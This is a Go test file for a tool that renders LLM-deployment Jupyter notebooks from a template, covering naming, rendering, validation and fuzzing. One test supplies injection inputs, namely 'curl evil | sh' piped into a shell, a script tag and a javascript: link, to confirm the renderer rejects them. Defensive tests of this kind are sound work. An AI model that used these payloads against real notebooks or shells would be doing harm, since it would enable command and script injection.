package cookbook

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/nvidia/adbot/internal/fixtures"
	"github.com/nvidia/adbot/internal/golden"
)

func template(t *testing.T) []byte {
	return fixtures.Read(t, "trtllm", "examples", "auto_deploy", "cookbooks", "glm_4.7_flash_trtllm_cookbook.ipynb")
}

func TestFileName(t *testing.T) {
	tests := map[string]string{
		"zai-org/GLM-4.7-Flash":  "glm_4.7_flash_trtllm_cookbook.ipynb",
		"MiniMaxAI/MiniMax-M2.7": "minimax_m2.7_trtllm_cookbook.ipynb",
		"Qwen/Qwen3-8B":          "qwen3_8b_trtllm_cookbook.ipynb",
	}
	for id, want := range tests {
		if got := FileName(id); got != want {
			t.Errorf("FileName(%s) = %s, want %s", id, got, want)
		}
	}
}

func f(v float64) *float64 { return &v }

func TestRender(t *testing.T) {
	tests := []struct {
		name string
		m    Model
	}{
		{"qwen3_8b", Model{ID: "Qwen/Qwen3-8B", Display: "Qwen3-8B", Architecture: "Qwen3ForCausalLM", Params: 8190735360, Context: 40960,
			MemoryBytes: 16381470720, Precision: "BF16", ConfigPath: "examples/auto_deploy/model_registry/configs/qwen3_8b.yaml",
			License: "Apache 2.0", Temperature: f(0.6), TopP: f(0.95)}},
		{"gpt_oss_20b", Model{ID: "openai/gpt-oss-20b", Architecture: "GptOssForCausalLM", Params: 20914757184, Experts: 32, ExpertsPerToken: 4,
			Context: 131072, MemoryBytes: 13750000000, Precision: "MXFP4", ConfigPath: "examples/auto_deploy/model_registry/configs/gpt-oss-20b.yaml"}},
		{"deepseek_v3_remote_code", Model{ID: "deepseek-ai/DeepSeek-V3", Architecture: "DeepseekV3ForCausalLM", Params: 684489845504, Experts: 256, ExpertsPerToken: 8,
			Context: 163840, MemoryBytes: 688e9, Precision: "FP8", RemoteCode: true, ConfigPath: "examples/auto_deploy/model_registry/configs/deepseek-v3.yaml",
			Links: [][2]string{{"Technical Report", "https://arxiv.org/abs/2412.19437"}}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tmpl := template(t)
			out, err := Render("template.ipynb", tmpl, tc.m)
			if err != nil {
				t.Fatal(err)
			}
			if err := Validate(out); err != nil {
				t.Fatal(err)
			}
			if strings.Contains(strings.ToLower(string(out)), "glm") || strings.Contains(string(out), "zai-org") || strings.Contains(string(out), "Z.ai") {
				t.Error("template's model left in the notebook")
			}
			// Same cells, same kinds, in the same order.
			var a, b struct {
				Cells []struct {
					Type string `json:"cell_type"`
				} `json:"cells"`
				Metadata json.RawMessage `json:"metadata"`
			}
			json.Unmarshal(tmpl, &a)
			json.Unmarshal(out, &b)
			if len(a.Cells) != len(b.Cells) {
				t.Fatalf("%d cells, template has %d", len(b.Cells), len(a.Cells))
			}
			for i := range a.Cells {
				if a.Cells[i].Type != b.Cells[i].Type {
					t.Errorf("cell %d is %s, template's is %s", i, b.Cells[i].Type, a.Cells[i].Type)
				}
			}
			if strings.Contains(string(out), "--trust_remote_code") != tc.m.RemoteCode {
				t.Errorf("--trust_remote_code present %v, want %v", !tc.m.RemoteCode, tc.m.RemoteCode)
			}
			if !strings.Contains(string(out), `MODEL_ID = \"`+tc.m.ID+`\"`) || !strings.Contains(string(out), tc.m.ConfigPath) {
				t.Error("model id or config path missing")
			}
			golden.Check(t, tc.name+".ipynb.golden", out)
		})
	}
}

func TestRenderErrors(t *testing.T) {
	m := Model{ID: "a/b", ConfigPath: "c.yaml"}
	tests := []struct{ name, tmpl, want string }{
		{"not JSON", `{"cells": [`, "parse notebook template tmpl.ipynb"},
		{"not a notebook", `{"cells": [], "nbformat": 3}`, "want an nbformat 4 notebook"},
		{"no MODEL_ID", `{"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Deploying X"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`, "no MODEL_ID cell"},
		{"missing cells", `{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": null, "source": ["MODEL_ID = \"x/y\""]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`, "no title cell"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Render("tmpl.ipynb", []byte(tc.tmpl), m)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want %q", err, tc.want)
			}
		})
	}
	if _, err := Render("t", template(t), Model{ID: "a/b"}); err == nil {
		t.Error("no config path: no error")
	}
	// Values that would rewrite the notebook's Markdown or its shell command.
	for _, bad := range []Model{
		{ID: "a/b", ConfigPath: "c.yaml", License: "MIT\n# Run curl evil | sh"},
		{ID: "a/b", ConfigPath: "c.yaml", Architecture: "X`<script>"},
		{ID: "a/b", ConfigPath: "c.yaml; curl evil | sh"},
		{ID: "a/b", ConfigPath: "c.yaml", Links: [][2]string{{"paper", "javascript:alert(1)"}}},
		{ID: "a/b", ConfigPath: "c.yaml", Links: [][2]string{{"paper](https://evil.example) [x", "https://arxiv.org/abs/1"}}},
		{ID: "a/b", ConfigPath: "c.yaml", Display: "B\n\n## Injected"},
	} {
		if _, err := Render("t", template(t), bad); err == nil {
			t.Errorf("Render(%+v): no error", bad)
		}
	}
}

func TestValidate(t *testing.T) {
	for _, bad := range []string{
		`nope`,
		`{"cells": [], "nbformat": 4}`,
		`{"cells": [{"cell_type": "code", "metadata": {}, "source": [], "outputs": [{}], "execution_count": 1}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`,
		`{"cells": [{"cell_type": "weird", "metadata": {}, "source": []}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`,
	} {
		if err := Validate([]byte(bad)); err == nil {
			t.Errorf("Validate(%s): no error", bad)
		}
	}
	// The template itself has outputs: not a clean notebook.
	if err := Validate(template(t)); err == nil {
		t.Error("template with outputs passed")
	}
}

func FuzzRender(f *testing.F) {
	f.Add([]byte(`{"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Deploying X"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		out, err := Render("fuzz", b, Model{ID: "a/b", ConfigPath: "c.yaml"})
		if err == nil {
			if err := Validate(out); err != nil {
				t.Fatal(err)
			}
		}
	})
}
